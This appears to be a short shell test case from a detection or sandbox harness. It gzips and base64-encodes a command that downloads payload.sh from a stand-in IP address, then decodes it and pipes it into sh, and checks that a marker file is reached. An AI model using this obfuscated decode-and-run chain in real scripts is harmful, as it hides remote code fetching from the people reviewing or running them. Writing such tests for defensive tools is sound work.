#!/bin/sh
. /opt/case/case.sh

printf 'touch /tmp/reached\nwget -qO /tmp/p http://203.0.113.10/payload.sh\n' | gzip -c | base64 >/tmp/t
echo "$(cat /tmp/t)" | base64 -d | gunzip -c | sh
wait_for /tmp/reached
took_place
